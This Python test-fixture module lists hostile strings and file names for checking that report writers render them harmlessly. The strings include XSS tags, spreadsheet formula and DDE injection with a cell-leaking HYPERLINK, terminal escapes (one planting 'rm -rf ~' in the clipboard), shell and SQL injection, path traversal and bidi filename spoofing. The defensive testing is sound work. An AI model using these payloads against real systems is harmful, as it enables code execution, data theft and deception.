"""Texts and file names made to harm who shows them: one list, for every reader and for every writer.

They come in as the text of a cell, of a comment, of a sheet's name, of a plan, or as the name of a file. Whoever writes
them (terminal, JSON, HTML, xlsx, CSV, Markdown) is tested with ``TESTI``: what goes out must say them, and do nothing.
"""

from __future__ import annotations

import unicodedata

ESC, BEL, CSI = "\x1b", "\a", "\x9b"
LIMITE_DI_EXCEL = 32_767
"""Characters that a cell of Excel holds at most."""

DI_CONTROLLO = (
    "zero\0in mezzo",
    f"campanello{BEL}",
    "torna\rindietro",
    "cancella\b\b\b\b\b\b\b\btutto",
    "una riga\nun'altra\r\nun'altra ancora",
    "tabulazione\tverticale\vpagina\f",
    "unità\x1f\x1e\x1d\x1c",
    "canc\x7f",
    "riga nuova di altri\x85qui",
    "a capo di Unicode\u2028e paragrafo\u2029qui",
)
"""Control characters: they move the cursor, ring, end lines where nobody expects it."""

DI_TERMINALE = (
    f"{ESC}[2J{ESC}[H{ESC}[31mrosso",
    f"{ESC}[1A{ESC}[2KNessun rilievo blocca.",
    f"{ESC}]0;titolo della finestra{BEL}",
    f"{ESC}]8;;https://example.org/{ESC}\\clicca{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    f'{ESC}P$q"p{ESC}\\',
    f"{CSI}31mrosso con un solo segno",
    "[bold red]rosso[/bold red] [link=file:///etc/passwd]clicca[/link] [/]",
)
"""Commands of terminals, and the markup of a library that writes to them."""

DI_VERSO = (
    "prezzo \u202e00001 euro",
    "\u202atesto\u202b\u202c",
    "\u2066isolato\u2067\u2068 e mai chiuso",
    "\u200fda destra\u200e\u061c",
    "abuso\u202excod.xlsx",
)
"""Directions of writing: what is read is not what is written."""

INVISIBILI = (
    "\ufeffcon il segno d'ordine",
    "lar\u200bghezza\u200c zero\u200d\u2060",
    "molle\u00addove serve",
    "etichette\U000e0041\U000e0042 che non si vedono",
    "non\ufffecarattere\uffff",
    "privato\ue000qui",
    "a" + "\u0301\u0316\u0334" * 50,
    "metà\ud800di un carattere",
    "l'altra metà\udc00qui",
    "byte\udcff di un nome",
)
"""What is not seen, or is no character: halves of pairs come in by escapes of a workbook and by names of files."""

DI_PAGINA = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<svg/onload=alert(1)>",
    "<!-- mai chiuso",
    "]]><altro/>",
    "</textarea></title></style><h1>fuori",
    '<a href="javascript:alert(1)">clicca</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;b&gt; &amp;lt; &#60;script&#62; &nbsp",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "</p></div></td></table>",
    "<style>*{display:none}</style>",
)
"""HTML and XML: tags, ends of what one stands in, addresses that run."""

DI_FORMULA = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"clicca")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://example.org/")',
    "='file:///C:/altro.xlsx'#$Foglio1.A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    ';=1+1;"',
    ",=1+1",
    "\uff1d1+1",
    "{=1+1}",
    "|cmd",
    "%0A=1+1",
)
"""What a spreadsheet would compute: in its own cells, and in a CSV that it opens."""

DI_DATI = (
    'virgolette " e barre \\ e \\" e \\\\',
    "\\u0022, \\n, \\x00",
    '", "severity": "nota", "x": "',
    "a;b;c",
    'a,"b",c',
    "una riga\r\nnuova;riga;di;un;altro",
    "NULL",
    "null",
    "NaN",
    "1e999999999",
    "0x1F",
    "1.234.567,89",
    "00012",
    "TRUE",
    "#REF!",
    "_x0041__x000D__x005F_x0041_",
    "%s %n %(x)s {0.__class__} {} %",
)
"""What ends a field of JSON or CSV, what a program takes for something else than text, escapes of our formats."""

DI_MARKDOWN = (
    "[clicca](javascript:alert(1))",
    "![](https://example.org/traccia.png)",
    "<https://example.org/>",
    "# titolo\n\n- voce\n\n```\ncodice",
    "a | b | c\n--- | --- | ---",
    "*grassetto* _corsivo_ `codice` ~barrato~",
    "1. uno\n> due\n\n---",
    "\\*non\\* [x]: https://example.org/",
)
"""Marks of a letter's text: links, pictures that tell who looks, tables, titles."""

DI_SISTEMA = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\calc.exe",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\server\\cartella\\file",
    "file:///etc/passwd",
    "$(touch /tmp/fatto) `touch /tmp/fatto` ; rm -rf ~",
    "'; DROP TABLE obiettivi; --",
    "CON",
    "--sovrascrivi",
    "~",
)
"""Paths, names that a system keeps for itself, commands."""

LUNGHI = (
    "a" * LIMITE_DI_EXCEL,
    "ab " * (LIMITE_DI_EXCEL // 3),
    "1" * LIMITE_DI_EXCEL,
    "(" * LIMITE_DI_EXCEL,
    '"' * LIMITE_DI_EXCEL,
    "\n" * 1_000,
    "à" * LIMITE_DI_EXCEL,
    "\U0001f600" * (LIMITE_DI_EXCEL // 2),
)
"""As long as a cell can be: one word, many words, digits, brackets that never close, lines."""

VUOTI = ("", " ", "\u00a0", "\u3000", "\n", "'")
"""Nothing, in several ways."""

TESTI: tuple[str, ...] = (
    *DI_CONTROLLO,
    *DI_TERMINALE,
    *DI_VERSO,
    *INVISIBILI,
    *DI_PAGINA,
    *DI_FORMULA,
    *DI_DATI,
    *DI_MARKDOWN,
    *DI_SISTEMA,
    *LUNGHI,
    *VUOTI,
)
"""All of them."""

NOMI = (
    "a capo\nBLOCCA STR101.xlsx",
    "torna\rindietro.xlsx",
    f"{ESC}[31mrosso{ESC}[0m.xlsx",
    f"{CSI}31m.xlsx",
    f"campanello{BEL}.xlsx",
    "fattura\u202exslx.exe.xlsx",
    "\u2066isolato.xlsx",
    "lar\u200bghezza zero.xlsx",
    "byte\udcff\udcfe che non sono UTF-8.xlsx",
    "<script>alert(1).xlsx",
    "<img src=x onerror=alert(1)>.xlsx",
    '" onmouseover="alert(1).xlsx',
    "'apice' & «virgolette».xlsx",
    "=1+1.xlsx",
    "@SOMMA(A1).xlsx",
    "--sovrascrivi.xlsx",
    "$(touch fatto).xlsx",
    "`touch fatto`; rm.xlsx",
    "C:\\Windows\\win.ini.xlsx",
    "%2e%2e%2f%00.xlsx",
    "[link=file]clicca[bold] [clicca](x).xlsx",
    "#foglio!A1.xlsx",
    "CON.xlsx",
    "spazio in fondo.xlsx ",
    "punto in fondo.xlsx.",
    "è" * 124 + ".xlsx",
    "a" * 250 + ".xlsx",
    "-",
)
"""Names that a file of a folder can have, at least where the system is not Windows: no slash, no NUL."""

_A_CAPO = "\n"
_ORDINI = {"\u2028", "\u2029"}
_SENZA_SEGNO = {"Cc", "Cf", "Cs", "Co", "Cn"}


def pericolosi(testo: str) -> set[str]:
    """The characters of a text that nobody should be shown as they are, on a terminal or in a page.

    Control characters but the end of a line, marks of direction, invisible ones, halves of pairs, what is no character.
    """
    return {
        segno for segno in set(testo) - {_A_CAPO} if segno in _ORDINI or unicodedata.category(segno) in _SENZA_SEGNO
    }
